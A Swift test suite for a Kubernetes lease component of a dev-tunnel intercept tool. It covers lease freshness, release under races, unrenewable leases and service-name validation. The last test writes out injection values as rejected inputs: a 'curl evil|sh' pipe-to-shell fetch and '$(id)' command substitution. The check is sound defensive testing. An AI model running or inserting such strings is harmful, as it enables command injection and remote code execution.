import Foundation
import KubeObjects
import Synchronization
import Testing

@testable import Intercept

@Suite(.timeLimit(.minutes(1))) struct WorkloadLeaseTests {
  private let now = Date(timeIntervalSince1970: 1_767_323_045)

  private func lease(renewed secondsAgo: Double?, holder: String? = "alice@laptop") -> JSONValue {
    var spec: JSONValue = [
      "leaseDurationSeconds": 30, "leaseTransitions": 4, "acquireTime": "2026-01-02T03:00:00.000000Z",
    ]
    spec["holderIdentity"] = holder.map { JSONValue($0) }
    spec["renewTime"] = secondsAgo.map { JSONValue(Timestamp.micro(now - $0)) }
    return ["spec": spec]
  }

  @Test(
    "Fresh until its duration has passed without renewal",
    arguments: [(0.0, true), (29, true), (31, false), (86_400, false)])
  func freshness(secondsAgo: Double, isFresh: Bool) throws {
    let held = try #require(WorkloadLease.held(lease(renewed: secondsAgo), now: now))
    #expect(held.isFresh == isFresh)
    #expect(held.holder == "alice@laptop")
    #expect(held.transitions == 4)
    #expect(held.since == "2026-01-02T03:00:00.000000Z")
  }

  @Test("Nobody's Lease, and one that was never renewed")
  func released() throws {
    #expect(WorkloadLease.held(lease(renewed: 0, holder: nil), now: now) == nil)
    #expect(WorkloadLease.held(lease(renewed: 0, holder: ""), now: now) == nil)
    #expect(try #require(WorkloadLease.held(lease(renewed: nil), now: now)).isFresh == false)
  }

  @Test(
    "A renewal between the read and the delete does not leave it behind; another holder's stays",
    arguments: [("alice@laptop", ["GET", "DELETE", "GET", "DELETE"]), ("bob@desk", ["GET", "DELETE", "GET"])])
  func raced(next: String, requests: [String]) async throws {
    let version = Mutex(1)
    let server = FakeAPIServer { request in
      let current = version.withLock { $0 }
      guard request.method == "DELETE" else {
        var lease: JSONValue = ["metadata": ["name": "devtunnel-web", "uid": "l"]]
        lease[path: "metadata", "resourceVersion"] = JSONValue(String(current))
        lease["spec"] = ["holderIdentity": JSONValue(current == 1 ? "alice@laptop" : next), "leaseTransitions": 4]
        return (200, lease)
      }
      // The late renewal, or the other holder, comes before the first delete.
      if current == 1 { version.withLock { $0 = 2 } }
      let isCurrent = request.body?[path: "preconditions", "resourceVersion"]?.stringValue == "2"
      return isCurrent ? (200, [:]) : (409, ["kind": "Status", "reason": "Conflict", "code": 409])
    }
    defer { server.stop() }
    let lease = WorkloadLease(
      client: try server.client(), namespace: "shop", workload: "web", service: "web", holder: "alice@laptop")
    try await lease.release(transitions: 4)
    #expect(server.requests.map(\.method) == requests)
  }

  @Test(
    "If it may no longer be renewed, its content decides whether the intercept is ours",
    arguments: [("alice@laptop", true), ("bob@desk", false)])
  func unrenewable(holder: String, isOurs: Bool) async throws {
    let server = FakeAPIServer { request in
      guard request.method == "GET" else {
        return (403, ["kind": "Status", "reason": "Forbidden", "code": 403])
      }
      return (
        200,
        [
          "metadata": ["name": "devtunnel-web"],
          "spec": ["holderIdentity": JSONValue(holder), "leaseTransitions": 1],
        ]
      )
    }
    defer { server.stop() }
    try await withInterception(server) { interception, _ in
      let lease = try #require(await interception.lease)
      #expect(try await interception.isStillOurs(lease) == isOurs)
    }
  }

  @Test("A Service that no Service can be called is not named, least of all in a command to be copied")
  func service() throws {
    for (text, service) in [("web-alt", "web-alt"), ("web; curl evil|sh", nil), ("", nil), ("$(id)", nil)] {
      var lease = lease(renewed: 0)
      lease.annotations = ["devtunnel.dev/service": text]
      #expect(try #require(WorkloadLease.held(lease, now: now)).service == service)
    }
  }
}
